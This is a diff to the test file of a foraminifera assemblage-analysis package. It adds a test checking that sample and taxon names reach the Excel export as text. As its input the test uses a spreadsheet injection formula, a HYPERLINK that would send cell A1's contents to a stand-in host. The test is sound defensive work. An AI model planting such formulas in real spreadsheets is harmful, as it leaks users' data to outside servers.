@@ -3,10 +3,12 @@
 import numpy as np
 import pandas as pd
 import pytest
+from openpyxl import load_workbook
 
 from forametric.analysis.abundance import estimate_composition
 from forametric.analysis.assemblages import (
     UNKNOWN,
+    Assemblages,
     abundances_of_samples,
     assemblages,
     assemblages_of,
@@ -72,6 +74,18 @@ def test_what_an_expert_has_decided_is_counted_as_certain():
     new = table.set_index("taxon").loc["Nova species"]
     assert new["low"] <= 0.05 <= new["high"]
     assert new["abundance"] == pytest.approx(0.05, abs=0.01)
+
+
+def test_names_of_samples_and_taxa_are_text_in_the_excel_file(tmp_path):
+    formula = '=HYPERLINK("http://x/?"&A1,"x")'
+    table = pd.DataFrame({"sample": formula, "taxon": [formula, UNKNOWN], "count": [2, 0]})
+    table = table.assign(raw=1.0, abundance=[0.9, 0.1], low=0.0, high=1.0)
+    samples = pd.DataFrame({"sample": [formula], "specimens": [2]})
+    Assemblages(table, samples).to_excel(tmp_path / "assemblage.xlsx")
+    book = load_workbook(tmp_path / "assemblage.xlsx")
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert sum(cell.value == formula for cell in cells) == 8
+    assert {cell.data_type for cell in cells} == {"s", "n"}
 
 
 def test_a_sample_of_novel_specimens_is_unknown():
